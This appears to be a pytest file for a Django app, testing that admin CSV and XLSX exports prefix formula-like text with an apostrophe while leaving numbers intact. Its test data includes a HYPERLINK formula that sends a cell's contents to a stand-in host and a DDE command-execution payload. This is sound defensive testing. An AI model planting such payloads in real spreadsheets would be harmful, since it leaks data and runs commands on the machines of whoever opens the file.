"""Formula injection in the Django admin's exports (django-import-export), issue 17 finding 4:
text that a spreadsheet would run as a formula is written as text, through the same function as
the report exports (core.spreadsheets); numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.spreadsheets import neutralise_formula, safe_cell
from tests.factories import MemberFactory, PlotFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+1+cmd|' /C calc'!A0"


def admin_export(client, url, fmt):
    form = client.get(url).context["form"]
    choices = {str(label).lower(): value for value, label in form.fields["format"].choices}
    data = {"format": choices[fmt], "resource": "0"}
    data.update({name: "on" for name in form.fields if "resource_" in name})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_member_xlsx_export_holds_no_formula(admin_client_):
    MemberFactory(code="AC-0001", first_name=HYPERLINK, last_name=CMD)
    body = admin_export(admin_client_, "/admin/members/member/export/", "xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells]
    assert "'" + HYPERLINK in values and "'" + CMD in values


def test_member_csv_export_holds_no_formula(admin_client_):
    MemberFactory(code="@SUM(A1)", first_name="-2+3", last_name=CMD)
    body = admin_export(admin_client_, "/admin/members/member/export/", "csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    by_column = dict(zip(header, row, strict=True))
    assert by_column["code"] == "'@SUM(A1)"
    assert by_column["first_name"] == "'-2+3"
    assert by_column["last_name"] == "'" + CMD
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_plot_export_keeps_negative_coordinates_as_numbers(admin_client_):
    PlotFactory(code="=P1", latitude=Decimal("-6.500000"), longitude=Decimal("-76.700000"))
    body = admin_export(admin_client_, "/admin/members/plot/export/", "csv")
    header, row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[:2]
    by_column = dict(zip(header, row, strict=True))
    assert by_column["code"] == "'=P1"
    assert by_column["latitude"] == "-6.500000" and by_column["longitude"] == "-76.700000"


@pytest.mark.parametrize("text", ["=1+1", "+33", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_one_function_neutralises_every_formula_start(text):
    assert neutralise_formula(text) == "'" + text
    assert safe_cell(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone():
    assert neutralise_formula("Núñez") == "Núñez"
    assert safe_cell(-2) == -2 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")
